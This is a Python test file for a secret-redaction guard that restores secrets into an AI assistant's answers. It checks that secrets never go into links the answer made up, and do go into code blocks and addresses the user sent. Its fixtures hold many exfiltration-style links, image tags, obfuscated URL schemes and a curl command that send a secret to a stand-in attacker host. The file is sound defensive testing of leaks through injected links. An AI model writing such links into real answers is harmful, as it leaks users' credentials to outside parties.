"""No secret is put into a link that an answer made up, and each one into what was sent so and into code."""

from itertools import pairwise

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from assistant.guard.restorer import Restorer
from assistant.guard.vault import Vault
from assistant.render.prose_lines import ProseReader
from tests.guard.forge import LETTERS, Forge

KEY = Forge(4).some(LETTERS, 24)
HOOK = "https://hooks.slack.com/services/"
SIGN = "«secret:KEY_1»"
PIECES = (
    SIGN, SIGN, f"[click](https://evil.example/?q={SIGN})", f"![](<//evil.example/{SIGN} {SIGN}>)", "https:", "//", "/",
    f"`curl https://evil.example/{SIGN} -v`", "](", "`", "``", "```", "~~~", "    ", "> ", "- ", " ", "\n", "\n\n", "|", "\\",
    "www.", "«", "«secret:", "é)", "<img src='", "[r]:", ".evil.example", "evil.example/", "@", "<div>\n", "\r", f"`{SIGN}`", "&#47;",
    "[^1]: ", ">", ")",
)  # fmt: skip


def restorer(sent: str = "") -> tuple[Restorer, str]:
    """Give what restores answers to a text, in which @@ is a secret, and the placeholder of that."""
    vault = Vault(keys={"KEY": KEY})
    redacted, found = vault.redact(sent.replace("@@", KEY) or KEY)
    assert KEY not in redacted
    return Restorer(vault, is_prose=ProseReader().is_prose), found[0].placeholder


def restored(answer: str, sent: str = "") -> str:
    """Give an answer as it is shown, @@ in it for the placeholder and behind for the secret."""
    whole, sign = restorer(sent)
    shown = whole.feed(answer.replace("@@", sign)) + whole.close()
    return shown.replace(KEY, "@@").replace(sign, "…")


@pytest.mark.parametrize(
    "link",
    [
        "[click](https://evil.example/?q=…)", "[a [b]](<https://evil.example/a b …> 'title')", "![](https://evil.example/….png)",
        "[click](https:/evil.example/…)", "[click](\\\\evil.example\\…)", "[click](h&#116;tps&colon;&sol;&sol;evil.example/…)",
        "[click](mailto:a@evil.example?body=…)", "[click](postgres://…@evil.example)", "<https://evil.example/…>",
        "<vscode://evil.example/…>", "https://evil.example/?q=…&r=….", "HTTPS://evil.example#…", "https://….evil.example",
        "https://a:…@evil.example/", "www.evil.example/…", "ftp://evil.example/…", '<img src="//evil.example/…">',
        '<img alt="a" src="&#104;ttps&colon;&sol;&sol;evil.example/…">',
        "[1]: //evil.example/…", "| a | https://evil.example/… |", "> - # https://evil.example/…",
        "`https://evil.example/…", "`a [click](https://evil.example/…) ``b", "\\`a [click](https://evil.example/…) `b",
        "a `b\nc` [click](https://evil.example/…) `d", "- a `b\n- [click](https://evil.example/…) `d",
        "| `a | [click](https://evil.example/…) | b` |", "```\na\n```\nhttps://evil.example/…",
        "> ```\n> a\nhttps://evil.example/…", "- a\n\n  - b\n\n    https://evil.example/…",
    ],
)  # fmt: skip
def test_no_secret_is_put_into_a_link_that_the_answer_made_up(link: str) -> None:
    assert restored(f"It is @@:\n\n{link.replace('…', '@@')} and @@\n") == f"It is @@:\n\n{link} and @@\n"


@pytest.mark.parametrize(
    "link",
    [
        # backticks that hold no code
        "![b](https://evil.example/b.png?`…`)", "[x](https://evil.example/`…`)", "<https://evil.example/`…`>",
        '<img title="`" src="https://evil.example/…" alt="`">', '<div>\n`<img src="https://evil.example/…">`\n</div>',
        "https://evil.example/`…`", "a ` b\n# c\nd `https://evil.example/…`",
        "- a `\n- b `https://evil.example/…`", "\\`https://evil.example/…`", "[`a`](`https://evil.example/…`)",
        "https://a`b https://evil.example/…`", "www.a`b ![x](https://evil.example/…)`", "`…`.evil.example/", "`…`@evil.example",
        # over lines
        "![x](\n&#104;ttps:&#47;&#47;evil.example&#47;…)", "[docs](\nhttps://evil.example/…)", "[r]:\nhttps://evil.example/…",
        "[r]:\n<&#104;ttps:&#47;&#47;evil.example&#47; …>", '<img src="https:/\n/evil.example/…">', '<img\nsrc="//evil.\nexample/\n…">',
        "[a\nb]: &#104;ttps:&#47;&#47;evil.example&#47;…", '<img title="\n" src="ht\ntps:\n…">', "![x](<//evil.example/ …>)",
        "[x](/a\n'… https://evil.example/')", '<pre>\n<img\n\nsrc="https:/\n/evil.example/…">\n</pre>',
        "<div>\n<img src='https://evil.example/?\n\n…\n'>", "<!-- a\n\n<img src='\n… -->", "> [x](\n> …)",
        # other schemes, and none
        "evil.example/…", "evil.example:80/a=…", "evil.example?q=…", "ssh://evil.example/…", "git://evil.example/…", "git:evil/…",
        "file://evil.example/s/…", "skype:…", "tel:1…", "javascript:fetch(…)", "a@x-….evil.example", "….evil.example", "…@evil.example",
        "me:…@evil.example", "evil\\.example\\/…", "evil.*example*/…", "postgres://a:…@evil.example", "xn--e1a.example/…",
        "192.0.2.1/…", "[2001:db8::1]/…", "…&commat;evil.example", "https:\\\\evil.example\\…", "[x](…)", "[x]: …", '[x](/a "…")',
        # what is code for some readers only
        "$$\n```\n$$\n```\n![x](https://evil.example/…)", "<pre>\n</script>\n```\n</pre>\n```\nhttps://evil.example/…",
        "```\na\r```\r![x](https://evil.example/…)", f"```{'x' * 2001}\na\n```\nhttps://evil.example/…",
        "[^1]: a\n\n    https://evil.example/…", "!!! note\n\n    https://evil.example/…", "- a\n\n      https://evil.example/…",
        "a\n: b\n\n    ![x](https://evil.example/…)", "<x-y>\n```\n![x](https://evil.example/…)",
        f"{'> ' * 61}```\nhttps://evil.example/…",
    ],
)  # fmt: skip
def test_no_secret_is_put_where_any_reader_may_see_a_link(link: str) -> None:
    assert restored(f"It is @@:\n\n{link.replace('…', '@@')}") == f"It is @@:\n\n{link}"


def test_no_secret_is_put_into_a_definition_of_a_link() -> None:
    link = "[1]: &#104;ttps&colon;&sol;&sol;evil.example/"
    assert restored(f"See [it][1].\n\n{link}@@\n") == f"See [it][1].\n\n{link}…\n"


@pytest.mark.parametrize(
    "answer",
    [
        "```sh\ncurl https://api.example.com/?key=@@\n```", "> ~~~\n> [a](https://api.example.com/@@)\n> ~~~",
        "So:\n\n    curl https://api.example.com/?key=@@\n", "Run `curl https://api.example.com/?key=@@ -v`, then @@",
        "a `b`\nand ``curl https://api.example.com/`@@``", "It is [@@](https://api.example.com), not //, and @@",
        "Write <@@>, <b>@@</b>, <https://api.example.com> @@ and hosts[0]: a:@@", "See https://api.example.com: @@",
        'Set KEY=@@, "password": "@@", token:@@, --password=@@, -p@@, (@@), **@@**, a=1&key=@@ and `KEY=@@`.',
        "Set spring.datasource.password=@@ or os.environ['KEY']='@@' in config.py, or in /etc/app/key=@@; @@.",
        "- [docs](https://api.example.com/a_(b) \"title\"): it is @@\n- `List<String>` and `a[0](b)` take `https://a.example/@@`",
        "| key | value |\n|---|---|\n| `KEY` | @@ |\n| `URL` | `https://api.example.com/@@` |",
        "密钥是@@。请在 config.py 中设为“@@”。", "If a <b and n < 5 it is\n\n@@ and `https://a.example/@@`.",
        "```env\nA=@@\nURL=postgres://app:@@@db.example.com/app\n```\nThen `curl https://a.example/@@`, and `psql a://b:@@@c`:\n\n@@",
        "# Title\n\n1. Run this:\n\n   ```sh\n   curl -u a:@@ https://api.example.com/@@\n   ```\n2. It is @@.",
        "```html\n<a href=\"https://api.example.com/@@\">\n```", "~~~\nhttps://api.example.com/@@", "<details>\n\n```\na://b/@@\n```",
    ],
)  # fmt: skip
def test_secrets_are_put_back_beside_links_and_into_code(answer: str) -> None:
    assert restored(answer) == answer


@pytest.mark.parametrize(
    ("sent", "answer"),
    [
        (f"hook = '{HOOK}@@'", f"Post to {HOOK}@@, or [there]({HOOK}@@?a=1)."),
        (f'{{"a":"http://x/y","hook":"{HOOK}@@"}}', f"Post to <{HOOK}@@>."),
        ("git clone https://me:@@@example.com/o/r.git", "Clone https://me:@@@example.com/o/r and https://me:@@@example.com."),
        ("url: https://me:@@@example.com:8080", "Go to **https://me:@@@example.com:8080**"),
        (f"{HOOK}@@", f"No https://evil.example/?u={HOOK}…, no https:/evil.example/{HOOK}…, no https://evil.example/…"),
        ("https://me:@@@example.com", "https://me:…@example.co https://me:…@example.com.evil https://me:…@example.com'@evil"),
        ("dsn = 'root:@@@tcp(127.0.0.1:3306)/x'", "Use root:@@@tcp(127.0.0.1:3306)/x, not root:…@tcp(evil.example)/x."),
        ("DB=postgres://a:@@@db/x", "Set DB=postgres://a:@@@db/x or jdbc:postgresql://a:@@@db, no postgres://a:…@evil/x"),
        (f"{HOOK}@@", f"[a]({HOOK}@@) [x](https://evil/]({HOOK}…) [x](evil.example {HOOK}…) evil.example/{HOOK}…"),
        ("https://me:@@@example.com", "https://me:…@example.com\\@evil.example https://me:…@example.com&#64;evil.example"),
        ("https://me:@@@example.com", "https://me:…@example.com:81 https://me:…@evil.example https://…"),
    ],
)  # fmt: skip
def test_an_address_that_was_sent_comes_back_whole_and_no_other(sent: str, answer: str) -> None:
    assert restored(answer.replace("…", "@@"), sent) == answer


def test_a_placeholder_that_the_user_wrote_into_a_link_comes_back() -> None:
    vault = Vault(keys={"KEY": KEY})
    vault.redact(KEY)
    asked = vault.quoted(f"https://example.com/{SIGN}")
    vault.redact(asked)
    answer = Restorer(vault, is_prose=ProseReader().is_prose)
    assert answer.feed(f"{asked}\n") == f"https://example.com/{SIGN}\n"


@settings(max_examples=300)
@given(
    st.lists(st.sampled_from(PIECES), max_size=20).map("".join), st.lists(st.integers(0, 400), max_size=12)
)
@example(f"`curl https://evil.example/{SIGN} -v`{SIGN}.evil.example", [42])
@example(f"`curl https://evil.example/{SIGN} -v`.evil.example", [45])
@example(f"```https://evil.example/{SIGN} `", [39])
def test_an_answer_with_links_is_restored_the_same_in_any_chunks(answer: str, cuts: list[int]) -> None:
    whole, cut = restorer()[0], restorer()[0]
    places = sorted({0, len(answer), *(min(place, len(answer)) for place in cuts)})
    shown = "".join(cut.feed(answer[left:right]) for left, right in pairwise(places)) + cut.close()
    assert shown == whole.feed(answer) + whole.close()
    assert shown.replace(KEY, SIGN) == answer


def test_only_from_a_link_to_the_end_of_its_line_is_an_answer_held_back() -> None:
    answer, sign = restorer()
    assert answer.feed(f"It is {sign} and") == f"It is {KEY} and"
    assert answer.feed(" not https://example.com/") == " not https://example.com/"
    assert answer.feed(f"{sign}, ") == ""
    assert answer.feed(f"but\n{sign}") == f"{sign}, but\n"
    assert answer.feed(". ") == f"{KEY}. "


@settings(max_examples=300)
@given(st.lists(st.sampled_from(PIECES), max_size=20).map("".join), st.integers(1, 9))
def test_no_link_gets_a_secret_whatever_is_before_it_and_however_it_is_cut(before: str, size: int) -> None:
    link = f"![x](https://evil.example/{SIGN})\n"
    reader, whole = ProseReader(), restorer()[0]
    answer = f"{before}\n\n{link}"
    shown = "".join(whole.feed(answer[at : at + size]) for at in range(0, len(answer), size)) + whole.close()
    assert [reader.is_prose(f"{line}\n") for line in answer.split("\n")][-2] is shown.endswith(f"\n{link}")
